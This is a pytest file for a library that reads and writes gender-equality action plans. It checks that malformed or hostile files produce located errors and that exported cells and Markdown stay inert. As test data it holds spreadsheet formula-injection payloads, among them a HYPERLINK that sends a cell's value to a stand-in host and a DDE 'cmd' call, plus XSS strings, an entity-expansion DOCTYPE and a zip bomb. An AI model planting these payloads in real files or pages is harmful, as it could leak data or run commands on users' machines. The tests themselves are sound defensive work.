"""Plan files against what people and attackers send (issue 10): the institution's own actions
round-trip (issue 9 §3.3); a workbook is read within bounds; renamed sheets, merged cells,
formulas, huge numbers, bad encodings are located errors; no exported cell is a live formula;
Markdown stays inert; a generated corpus of broken files only ever raises PlanError."""

from __future__ import annotations

import csv
import io
import json
import os
import zipfile
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

import seal_engine as se
from seal_engine.models import ActionArea
from seal_engine.plans import PlanError, PlanRow, PlanStatus, check_plan, draft_plan, read_plan
from seal_engine.plans import write_plan as write
from seal_engine.render.tabular import FORMULA_START

from .conftest import AGENCY, PATH_STD, RIVERTON, STARTER

openpyxl = pytest.importorskip("openpyxl")
FORMATS = (".xlsx", ".csv", ".md", ".json")


@pytest.fixture(scope="module")
def std() -> se.Standard:
    return se.load_standard(PATH_STD)


@pytest.fixture(scope="module")
def agency() -> se.Assessment:
    return se.load_assessment(AGENCY)


@pytest.fixture
def plan(std, agency) -> se.ActionPlan:
    return draft_plan(std, agency)


def _own(plan, **extra) -> PlanRow:
    fields = dict(no=len(plan.rows) + 1, action="OWN-01", own=True,
                  activity="Mentoring circle for women engineers", benchmarks=["P5"],
                  area=ActionArea.capacity_development, indicator="Women mentored",
                  unit="number", baseline=0, target=12, start=plan.start, end=plan.end,
                  responsible="Engineering department", capacities=["Mentors"])
    fields.update(extra)
    return PlanRow(**fields)


def _sheet_part(path: Path, title: str) -> str:
    wb = openpyxl.load_workbook(path)
    index = wb.sheetnames.index(title) + 1
    wb.close()
    return f"xl/worksheets/sheet{index}.xml"


def _rezip(path: Path, member: str, change) -> None:
    with zipfile.ZipFile(path) as z:
        parts = {i.filename: z.read(i.filename) for i in z.infolist()}
    parts[member] = change(parts[member])
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in parts.items():
            z.writestr(name, data)


def _problems(path, std, base, **kw) -> list[str]:
    with pytest.raises(PlanError) as e:
        read_plan(path, std, base, **kw)
    return [str(p) for p in e.value.problems]


# ---------------------------------------------------------------------------- own actions


@pytest.mark.parametrize("suffix", FORMATS)
def test_own_action_round_trips(std, plan, tmp_path, suffix):
    mine = plan.model_copy(update={"rows": [*plan.rows, _own(plan)]})
    path = write(mine, tmp_path / f"plan{suffix}", standard=std)
    back = read_plan(path, std, plan)
    assert back == mine
    assert back.row("OWN-01").own and not back.row("A-M2").own
    # the SMART check takes it as it is
    assert [i for i in check_plan(back, std) if i.action == "OWN-01"] == []


def test_own_action_typed_into_a_workbook(std, plan, tmp_path):
    path = write(plan, tmp_path / "plan.xlsx", standard=std)
    wb = openpyxl.load_workbook(path)
    ws = wb["Monitoring & evaluation"]
    ws.append([None, "MY-7", "Quarterly gender newsletter", "P5\nP6", "Issues", "number", 0, 4,
               "Newsletters", "2026-Q2", "2026-Q4", None, "Communication unit"])
    wb.save(path)
    back = read_plan(path, std, plan)
    row = back.row("MY-7")
    assert (row.own, row.area, row.benchmarks, row.target) == (
        True, ActionArea.monitoring_evaluation, ["P5", "P6"], 4)
    # the gaps see it: P5 had no library action at all
    report = se.gap_analysis(std, se.load_assessment(AGENCY), plan=back)
    assert report.gap("P5").plan_status == "planned" and "P5" not in report.without_action


def test_own_action_in_a_csv_needs_an_activity_and_an_area(std, plan, tmp_path):
    path = write(plan, tmp_path / "plan.csv")
    with path.open("a", encoding="utf-8", newline="") as f:
        w = csv.writer(f)
        w.writerow(["", "MY-1", "Our own step", "P5", "", "", "", "", "", "", "2026-Q2",
                    "2026-Q3", "", "Us", "", "", "", "", ""])
        w.writerow(["", "A-M22", "", "P5", "Sensitization", "", "", "", "", "", "2026-Q2",
                    "2026-Q3", "", "Us", "", "", "", "", ""])
    assert _problems(path, std, plan) == [
        f"{path}:8:5: [MY-1] Area: no area for your own action 'MY-1'; give one of Policy & "
        "standards, Sensitization, Capacity development, Monitoring & evaluation, Data "
        "collection",
        f"{path}:9:2: [A-M22] Action id: action id 'A-M22' is not in the action library of "
        "plans-path v1 (did you mean 'A-M2'?); use one of A-M1, A-M2, A-M3, A-P1, A-P2, A-P3, "
        "A-P6, or, for an action of your own, give it an activity (and the benchmarks it "
        "serves)"]


def test_own_action_that_looks_like_a_mistyped_library_id(std, plan):
    row = _own(plan, action="A-P33")
    issues = check_plan(plan.model_copy(update={"rows": [*plan.rows, row]}), std)
    assert [str(i) for i in issues if i.action == "A-P33"] == [
        f"row {row.no} (A-P33): 'A-P33' is not in the action library, so it counts as an "
        "action of your own (did you mean 'A-P3'?)"]


# ---------------------------------------------------------------------------- workbook bounds


def test_one_value_in_the_last_cell_does_not_walk_a_million_rows(std, plan, tmp_path,
                                                                  monkeypatch):
    path = write(plan, tmp_path / "plan.xlsx", standard=std)
    wb = openpyxl.load_workbook(path)
    wb["Sensitization"]["XFD1048576"] = "x"
    wb.save(path)
    assert path.stat().st_size < 40_000
    from seal_engine import _xlsx

    real, rows = _xlsx.Workbook.rows, []

    def counted(self, sheet, max_rows=100_000):
        for row in real(self, sheet, max_rows):
            rows.append(row[0])
            yield row

    monkeypatch.setattr(_xlsx.Workbook, "rows", counted)
    problems = _problems(path, std, plan)
    assert len(rows) < 200, len(rows)  # the rows the file holds, not a million made up
    assert problems == [
        f"{path}:1048576:16384: Sensitization!XFD1048576: a value in a column without a plan "
        "title; move it into a column of the plan or delete it"]


def test_a_workbook_that_inflates_too_far(std, plan, tmp_path):
    path = write(plan, tmp_path / "plan.xlsx", standard=std)
    part = _sheet_part(path, "Sensitization")
    _rezip(path, part, lambda data: data.replace(b"<sheetData>", b"<sheetData>"
                                                 + b" " * 70_000_000))
    assert path.stat().st_size < 200_000
    [problem] = _problems(path, std, plan)
    assert problem.startswith(f"{path}: the workbook inflates to ")
    assert "over the limit of 67,108,864" in problem


def test_a_huge_cell(std, plan, tmp_path):
    path = write(plan, tmp_path / "plan.xlsx", standard=std)
    part = _sheet_part(path, "Sensitization")
    huge = "y" * 40_000
    _rezip(path, part, lambda data: data.replace(
        b"</row></sheetData>",
        b'</row><row r="3"><c r="C3" t="inlineStr"><is><t>' + huge.encode()
        + b'</t></is></c><c r="B3" t="inlineStr"><is><t>A-P3x</t></is></c></row></sheetData>',
        1))
    problems = _problems(path, std, plan)
    assert f"{path}:3:3: [A-P3x] Sensitization!C3 (Activity): activity is 40,000 characters "\
           "long; a " \
           "cell holds at most 32,767" in problems


def test_renamed_and_unexpected_sheets_are_reported_not_dropped(std, plan, tmp_path):
    path = write(plan, tmp_path / "plan.xlsx", standard=std)
    wb = openpyxl.load_workbook(path)
    wb["Sensitization"].title = "Sensitisation"
    wb.create_sheet("My notes")["A1"] = "call the ministry"
    wb.save(path)
    assert _problems(path, std, plan) == [
        f"{path}: Sensitisation: the sheet 'Sensitisation' holds plan rows but is not one of "
        "the area sheets; rename it back to the area it is for (Policy & standards, "
        "Sensitization, Capacity development, Monitoring & evaluation, Data collection), so "
        "that its rows are read",
        f"{path}: My notes: the sheet 'My notes' is not a sheet of a plan workbook ('Summary', "
        "'Policy & standards', 'Sensitization', 'Capacity development', 'Monitoring & "
        "evaluation', 'Data collection', 'Action library'); move what it holds to the sheet of "
        "its area, or delete the sheet"]


def test_sheet_names_match_whatever_their_letter_case(std, plan, tmp_path):
    path = write(plan, tmp_path / "plan.xlsx", standard=std)
    wb = openpyxl.load_workbook(path)
    wb["Sensitization"].title = "SENSITIZATION "
    wb.save(path)
    assert read_plan(path, std, plan) == plan


@pytest.mark.parametrize("edit, expected", [
    (lambda ws: ws.merge_cells("C2:C3"),
     "{path}: Sensitization!C2:C3: merged cells; unmerge them: each action needs its own row "
     "and each value its own cell"),
    (lambda ws: ws.__setitem__("P2", "=40+10"),
     "{path}:2:16: Sensitization!P2 (Progress (%)): holds the formula =40+10 where a value is "
     "expected; type the value itself"),
    (lambda ws: ws.__setitem__("G2", "#DIV/0!"),
     "{path}:2:7: Sensitization!G2 (Baseline): shows the error #DIV/0!; type the value itself"),
    (lambda ws: ws.__setitem__("S1", "Comments"),
     "{path}:1:19: Sensitization!S1: the column title 'Comments' is not a plan column; rename "
     "it back to one of No., Action id, Activity, Benchmarks, Area, Indicator, Unit, Baseline, "
     "Target, Means of verification, Start, End, Required resources, Responsible party, "
     "Missing capacities, Status, Progress (%), Evidence of completion, Notes, or delete the "
     "column"),
    (lambda ws: ws.__setitem__("O1", "Progress (%)"),
     "{path}:1:16: Sensitization!P1: the column 'Progress (%)' appears twice (also column "
     "15); keep one"),
])
def test_workbook_shapes_that_would_lose_data_are_located(std, plan, tmp_path, edit, expected):
    path = write(plan, tmp_path / "plan.xlsx", standard=std)
    wb = openpyxl.load_workbook(path)
    edit(wb["Sensitization"])
    wb.save(path)
    content = path.read_bytes()
    assert _problems(path, std, plan) == [expected.format(path=path)]
    assert path.read_bytes() == content


@pytest.mark.parametrize("xml, message", [
    (b'<c r="G2"><v>1e999</v></c>', "Sensitization!G2 (Baseline): holds the number '1e999', "
                                    "which is not a finite number"),
    (b'<c r="G2"><v>12abc</v></c>', "Sensitization!G2 (Baseline): holds the number '12abc', "
                                    "which is not a finite number"),
    (b'<c r="G2"><v>1e300</v></c>', "[A-M2] Sensitization!G2 (Baseline): baseline 1e+300 is "
                                    "too large a number; a plan's figures are at most 15 digits"),
])
def test_huge_and_broken_numbers_in_a_workbook(std, plan, tmp_path, xml, message):
    path = write(plan, tmp_path / "plan.xlsx", standard=std)
    part = _sheet_part(path, "Sensitization")

    def change(data: bytes) -> bytes:
        start = data.index(b'<c r="G2"')
        end = data.index(b"</c>", start) + 4 if b"</c>" in data[start:start + 200] else \
            data.index(b"/>", start) + 2
        return data[:start] + xml + data[end:]

    _rezip(path, part, change)
    assert [p.split(": ", 1)[1] for p in _problems(path, std, plan)] == [message]


def test_a_doctype_is_refused(std, plan, tmp_path):
    path = write(plan, tmp_path / "plan.xlsx", standard=std)
    part = _sheet_part(path, "Sensitization")
    _rezip(path, part, lambda data: data.replace(
        b"<worksheet", b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]>'
        b"<worksheet", 1))
    [problem] = _problems(path, std, plan)
    assert "declares a DOCTYPE or entities, which a workbook never does" in problem


def test_an_existing_workbook_written_by_excel_style_rows_reads(std, plan, tmp_path):
    # cells without references and shared strings, as some programs write them
    path = write(plan, tmp_path / "plan.xlsx", standard=std)
    back = read_plan(path, std, plan)
    assert back == plan


# ---------------------------------------------------------------------------- CSV, JSON, MD


@pytest.mark.parametrize("content, message", [
    ("No.,Action id,Status\n1,A-M2,planned\n".encode("utf-16"),
     "the file is not UTF-8 text (byte 1 cannot be read); in Excel save it as 'CSV UTF-8 "
     "(Comma delimited)'"),
    ("No.,Action id,Notes\n1,A-M2,caf\xe9\n".encode("latin-1"),
     "the file is not UTF-8 text (byte 31 cannot be read); in Excel save it as 'CSV UTF-8 "
     "(Comma delimited)'"),
    (b'No.,Action id,Notes\n1,A-M2,"' + b"x" * 200_000 + b'"\n', "malformed CSV (field larger "
     "than field limit (131072)); save it again from the spreadsheet"),
    (b"No.,Action id,Start\n1,A-M2,20266-Q1\n", "[A-M2] Start: start quarter '20266-Q1' is not "
     "a quarter; write it as YYYY-Qn, e.g. '2026-Q3'"),
    ("No.,Action id,Start\n1,A-M2,٢٠٢٦-Q1\n".encode(), "[A-M2] Start: start quarter '٢٠٢٦-Q1' "
     "is not a quarter; write it as YYYY-Qn, e.g. '2026-Q3'"),
    (b"No.,Action id,Baseline\n1,A-M2," + b"9" * 5000 + b"\n", "[A-M2] Baseline: baseline '"
     + "9" * 56 + "...' is too large a number; a plan's figures are at most 15 digits"),
    (b"No.,Action id,Target\n1,A-M2,1e400\n", "[A-M2] Target: target '1e400' is too large a "
     "number; a plan's figures are at most 15 digits"),
    (b"No.,Action id,Notes\n1,A-M2,bell\x07\n", "[A-M2] Notes: notes holds the control "
     "character '\\x07', which a spreadsheet cannot store; remove it"),
    (b"No.,Action id,Notes\n1,A-M2,nul\x00here\n", None),
    (b"No.,Action id,Status,Extra\n1,A-M2,planned,x\n", None),
])
def test_bad_csv_files_are_located(std, plan, tmp_path, content, message):
    path = tmp_path / "plan.csv"
    path.write_bytes(content)
    problems = _problems(path, std, plan)
    assert problems and all(p.startswith(str(path)) for p in problems)
    if message is not None:
        assert [p.split(": ", 1)[1] for p in problems] == [message]


def test_semicolon_separated_csv_as_european_excel_saves_it(std, plan, tmp_path):
    path = write(plan, tmp_path / "plan.csv")
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))))
    buf = io.StringIO()
    csv.writer(buf, delimiter=";", lineterminator="\r\n").writerows(rows)
    path.write_text(buf.getvalue(), encoding="utf-8-sig")
    assert read_plan(path, std, plan) == plan


@pytest.mark.parametrize("text, message", [
    ("[" * 100_000 + "]" * 100_000, "not a plan: nested too deeply"),
    ('{"rows": [{"action": "A-M2", "progress": ' + "9" * 5000 + "}]}", None),
    ('{"rows": [{"action": "A-M2", "baseline": NaN, "area": "sensitization"}]}',
     "[A-M2] rows[0].baseline: baseline nan is too large a number; a plan's figures are at "
     "most 15 digits"),
    ('{"rows": [{"action": "A-M2", "activity": {"a": 1}, "area": "sensitization"}]}',
     "[A-M2] rows[0].activity: activity must be text, not dict"),
    ('{"rows": [{"action": "A-M2", "surprise": 1}]}', None),
    ('{"rows": "all of them"}', "rows: expected an object with a 'rows' list"),
])
def test_bad_json_files_are_located(std, plan, tmp_path, text, message):
    path = tmp_path / "plan.json"
    path.write_text(text, encoding="utf-8")
    problems = _problems(path, std, plan)
    assert problems and all(p.startswith(str(path)) for p in problems)
    if message is not None:
        assert [p.split(": ", 1)[1] for p in problems] == [message]


def test_a_plan_file_over_the_size_limit(std, plan, tmp_path):
    path = tmp_path / "plan.csv"
    with path.open("wb") as f:
        f.write(b"No.,Action id\n")
        f.write(b"1,A-M2\n" * 800_000)
    [problem] = _problems(path, std, plan)
    assert problem.startswith(f"{path}: the file is ") and "over the limit of 5,000,000" in problem


# ---------------------------------------------------------------------------- formulas out

EVIL = ["=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "+cmd|' /C calc'!A0", "-2+3",
        "@SUM(1+1)", "\t=1+1", "\r=1+1", "'=already quoted", "=1+1\nsecond line"]


def _evil_plan(plan):
    rows = []
    for i, r in enumerate(plan.rows):
        bad = EVIL[i % len(EVIL)]
        rows.append(r.model_copy(update={
            "activity": bad, "notes": EVIL[(i + 1) % len(EVIL)], "evidence": bad,
            "responsible": EVIL[(i + 2) % len(EVIL)], "resources": EVIL[(i + 3) % len(EVIL)],
            "capacities": [EVIL[(i + 4) % len(EVIL)].replace("\n", " ").strip()]}))
    inst = plan.institution.model_copy(update={"name": "=cmd|' /C calc'!A0"})
    evil = plan.model_copy(update={"rows": rows, "institution": inst})
    return se.ActionPlan.model_validate(evil.model_dump())  # texts stripped, as read back


def _evil_standard(std):
    data = std.model_dump(mode="json", exclude_defaults=True)
    for k, a in enumerate(data["actions"]):
        a["title"] = EVIL[k % len(EVIL)].replace("\n", " ").strip() or "=x"
    data["title"] = "@evil standard"
    return se.parse_standard(data, "evil.yaml")


def test_no_exported_cell_is_a_live_formula(std, plan, tmp_path):
    evil_std = _evil_standard(std)
    evil = _evil_plan(plan)
    xlsx = write(evil, tmp_path / "plan.xlsx", standard=evil_std)
    wb = openpyxl.load_workbook(xlsx)
    formulas = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                if c.data_type == "f":
                    formulas.append((ws.title, c.coordinate, c.value))
                elif isinstance(c.value, str):
                    assert not c.value.startswith(FORMULA_START), (ws.title, c.coordinate)
    # the summary's own figures stay live formulas, and nothing else is one
    assert formulas and {t for t, _c, _v in formulas} == {"Summary"}
    assert all(v.startswith(("=COUNTA(", "=COUNTIF(", "=IFERROR(", "=SUM(")) for *_, v in formulas)
    lib = wb["Action library"]
    assert lib["B2"].value == "'" + EVIL[0]
    # read back, every text is as it was
    assert read_plan(xlsx, evil_std, evil) == evil
    path = write(evil, tmp_path / "plan.csv")
    for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))):
        for cell in row:
            assert not cell.startswith(FORMULA_START) or _is_number(cell), cell
    assert read_plan(path, evil_std, evil) == evil


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_cli_csv_and_xlsx_keep_formulas_out(tmp_path):
    text = RIVERTON.read_text(encoding="utf-8").replace(
        "name: Riverton National Water Agency", "name: \"=HYPERLINK(\\\"http://x\\\")\"")
    a = tmp_path / "a.yaml"
    a.write_text(text, encoding="utf-8")
    from typer.testing import CliRunner

    from seal_engine.cli import app

    out = tmp_path / "plan.xlsx"
    r = CliRunner().invoke(app, ["actions", str(a), "-s", str(STARTER), "-o", str(out)])
    assert r.exit_code == 0, r.output
    summary = openpyxl.load_workbook(out)["Summary"]
    assert summary["B3"].value.startswith("'=HYPERLINK") and summary["B3"].data_type == "s"
    assert summary["A1"].value.startswith("Gender equality action plan: =HYPERLINK")


def test_control_characters_xlsx_cannot_hold_are_refused_with_the_cell(std, plan, tmp_path):
    rows = [r.model_copy(update={"notes": "bell\x07"}) if r.action == "A-M2" else r
            for r in plan.rows]
    with pytest.raises(PlanError) as e:
        write(plan.model_copy(update={"rows": rows}), tmp_path / "plan.xlsx", standard=std)
    [p] = e.value.problems
    assert p.field == "Sensitization!R2"
    assert "holds the control character '\\x07', which an Excel workbook cannot store" in p.message
    assert not (tmp_path / "plan.xlsx").exists()


# ---------------------------------------------------------------------------- Markdown inert

MARKUP = ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>",
          "[click](javascript:alert(1))", "![x](javascript:alert(1))", "<https://evil.example>",
          "line\n## Sensitization\n| 1 | A-XX | forged |", "**bold** _em_ `code` ~~s~~",
          "1. not a list", "# not a heading", "&lt;already escaped&gt; & amp", "a \\| b | c"]


def test_markup_in_plan_markdown_is_inert_and_reads_back(std, plan, tmp_path):
    from markdown_it import MarkdownIt

    rows = [r.model_copy(update={"activity": MARKUP[i % len(MARKUP)],
                                 "notes": MARKUP[(i + 3) % len(MARKUP)],
                                 "evidence": MARKUP[(i + 5) % len(MARKUP)]})
            for i, r in enumerate(plan.rows)]
    inst = plan.institution.model_copy(update={"name": "Evil\n## Sensitization\n<script>x"
                                                       "</script>[a](javascript:b)"})
    evil = plan.model_copy(update={"rows": rows, "institution": inst})
    text = se.render_plan(evil, "markdown", std)
    html = MarkdownIt("commonmark").render(text)
    assert "<script" not in html and "<img" not in html
    assert 'href="javascript:' not in html and 'src="javascript:' not in html
    assert "<strong>" not in html and "<em>" not in html and "<code>" not in html
    headings = [ln for ln in text.splitlines() if ln.startswith("#")]
    assert headings == ["# Gender equality action plan: Evil ## Sensitization "
                        "&lt;script&gt;x&lt;/script&gt;\\[a\\](javascript:b)",
                        "## Policy & standards", "## Sensitization", "## Capacity development",
                        "## Monitoring & evaluation", "## Data collection", "## SMART check"]
    path = tmp_path / "plan.md"
    path.write_text(text, encoding="utf-8")
    back = read_plan(path, std, plan)
    assert [(r.activity, r.notes, r.evidence) for r in back.rows] == [
        (_one_space(r.activity), _one_space(r.notes), _one_space(r.evidence)) for r in rows]


def _lf(text: str | None) -> str:
    return " ".join((text or "").replace("\r\n", "\n").replace("\r", "\n").split(" ")).strip()


def _one_space(text: str) -> str:
    return "\n".join(" ".join(part.split()) for part in text.split("\n")).strip()


# ---------------------------------------------------------------------------- read without a draft


def test_read_plan_from_the_assessment_alone(std, agency, tmp_path):
    drafted = draft_plan(std, agency, start="2026-Q3", quarters=8)
    for suffix in FORMATS:
        path = write(drafted, tmp_path / f"plan{suffix}", standard=std)
        back = read_plan(path, std, assessment=agency)
        assert back.rows == drafted.rows, suffix
        assert (back.assessment, back.institution) == (agency.id, agency.institution)
        # the period: as the file states it, or (CSV) the default widened to the rows'
        expected = ("2026-Q1", "2028-Q2") if suffix == ".csv" else ("2026-Q3", "2028-Q2")
        assert (back.start, back.end) == expected, suffix


def test_gaps_and_template_read_the_plan_without_drafting_one(tmp_path, monkeypatch):
    from typer.testing import CliRunner

    import seal_engine.plans.draft as draft_module
    from seal_engine.cli import app

    plan_path = tmp_path / "plan.csv"
    runner = CliRunner()
    assert runner.invoke(app, ["actions", str(RIVERTON), "-o", str(plan_path)]).exit_code == 0
    calls = []
    real = draft_module.gap_analysis
    monkeypatch.setattr(draft_module, "gap_analysis",
                        lambda *a, **k: calls.append(1) or real(*a, **k))
    monkeypatch.setattr(se, "draft_plan", lambda *a, **k: pytest.fail("drafted a plan"))
    r = runner.invoke(app, ["gaps", str(RIVERTON), "--plan", str(plan_path)])
    assert r.exit_code == 0, r.output
    r = runner.invoke(app, ["template", str(STARTER), "--from", str(RIVERTON), "--plan",
                            str(plan_path)])
    assert r.exit_code == 0, r.output
    assert calls == []


# ---------------------------------------------------------------------------- generated corpus

# PLAN_FUZZ_EXAMPLES=2000 runs a longer search
_SETTINGS = settings(max_examples=int(os.environ.get("PLAN_FUZZ_EXAMPLES", "60")), deadline=None,
                     suppress_health_check=[HealthCheck.function_scoped_fixture,
                                            HealthCheck.too_slow])


@pytest.fixture(scope="module")
def starter():
    return se.load_standard(STARTER)


@pytest.fixture(scope="module")
def riverton_plan(starter):
    return draft_plan(starter, se.load_assessment(RIVERTON))


@pytest.fixture(scope="module")
def exported(starter, riverton_plan, tmp_path_factory) -> dict[str, bytes]:
    folder = tmp_path_factory.mktemp("exported")
    return {s: write(riverton_plan, folder / f"p{s}", standard=starter).read_bytes()
            for s in FORMATS}


def _only_plan_errors(path: Path, content: bytes, starter, base) -> None:
    path.write_bytes(content)
    try:
        read_plan(path, starter, base)
    except PlanError as e:
        assert e.problems and all(p.file == str(path) and p.message for p in e.problems)


@st.composite
def _mutated(draw, original: bytes):
    data = bytearray(original)
    for _ in range(draw(st.integers(1, 6))):
        kind = draw(st.sampled_from(["flip", "insert", "delete", "splice"]))
        at = draw(st.integers(0, max(0, len(data) - 1)))
        if kind == "flip" and data:
            data[at] = draw(st.integers(0, 255))
        elif kind == "insert":
            data[at:at] = draw(st.binary(min_size=1, max_size=40))
        elif kind == "delete":
            del data[at:at + draw(st.integers(1, 200))]
        else:
            data[at:at] = draw(st.sampled_from([
                b"\x00", b"\xff\xfe", b'"', b"\n", b"|", b"<br>", b"\\", b"=1+1", b"1e999",
                b"99999-Q9", b"<c r=\"XFD9\"><f>1+1</f></c>", b"<mergeCell ref=\"A1:B2\"/>",
                b"]]]]", b"{{{{", b"NaN", b"-", b";", b"\t"]))
    return bytes(data)


@pytest.mark.parametrize("suffix", [".csv", ".md", ".json"])
def test_corpus_of_broken_text_plans(suffix, exported, starter, riverton_plan, tmp_path):
    @_SETTINGS
    @given(_mutated(exported[suffix]))
    def run(content):
        _only_plan_errors(tmp_path / f"x{suffix}", content, starter, riverton_plan)

    run()


def test_corpus_of_broken_workbooks(exported, starter, riverton_plan, tmp_path):
    original = exported[".xlsx"]
    with zipfile.ZipFile(io.BytesIO(original)) as z:
        parts = {i.filename: z.read(i.filename) for i in z.infolist()}
    names = sorted(parts)

    @_SETTINGS
    @given(st.sampled_from(names), st.data())
    def run(member, data):
        changed = dict(parts)
        changed[member] = data.draw(_mutated(parts[member]))
        buf = io.BytesIO()
        with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
            for name, content in changed.items():
                z.writestr(name, content)
        _only_plan_errors(tmp_path / "x.xlsx", buf.getvalue(), starter, riverton_plan)

    run()

    @_SETTINGS
    @given(_mutated(original))
    def raw(content):
        _only_plan_errors(tmp_path / "y.xlsx", content, starter, riverton_plan)

    raw()


_TEXT = st.text(st.characters(codec="utf-8"), max_size=60)


@pytest.mark.parametrize("suffix", [".xlsx", ".csv", ".json", ".md"])
def test_any_text_round_trips_or_is_refused(suffix, starter, riverton_plan, tmp_path):
    @settings(max_examples=40 if suffix == ".xlsx" else 80, deadline=None,
              suppress_health_check=[HealthCheck.function_scoped_fixture])
    @given(_TEXT, _TEXT, _TEXT)
    def run(activity, notes, evidence):
        rows = [r.model_copy(update={"activity": activity or "x", "notes": notes,
                                     "evidence": evidence}) if r.no == 1 else r
                for r in riverton_plan.rows]
        plan = riverton_plan.model_copy(update={"rows": rows})
        plan = se.ActionPlan.model_validate(plan.model_dump())  # texts stripped as read
        path = tmp_path / f"t{suffix}"
        try:
            write(plan, path, standard=starter)
        except PlanError as e:  # XLSX refuses what it cannot hold, saying where
            assert suffix == ".xlsx" and "control character" in str(e)
            return
        try:
            back = read_plan(path, starter, riverton_plan)
        except PlanError as e:
            assert "control character" in str(e) or "is not" in str(e)
            return
        got = back.rows[0]
        want = plan.rows[0]
        if suffix == ".md":  # runs of white space read back as one space
            assert (got.notes or "") == _one_space(want.notes or "")
        elif suffix == ".json":
            assert (got.activity, got.notes, got.evidence) == (want.activity, want.notes,
                                                              want.evidence)
        else:  # XML (XLSX) and CSV readers turn a carriage return into a line feed
            for a, b in ((got.activity, want.activity), (got.notes, want.notes),
                         (got.evidence, want.evidence)):
                assert _lf(a) == _lf(b)

    run()


def test_status_words_read_back_whatever_the_case(std, plan, tmp_path):
    path = write(plan, tmp_path / "plan.csv")
    text = path.read_text(encoding="utf-8-sig").replace(",planned,", ",In Progress,", 1)
    path.write_text(text, encoding="utf-8-sig")
    back = read_plan(path, std, plan)
    assert back.rows[0].status is PlanStatus.in_progress


def test_json_plan_is_strict_json(std, plan):
    text = se.render_plan(plan, "json", std)
    assert json.loads(text)["rows"][0]["action"] == plan.rows[0].action
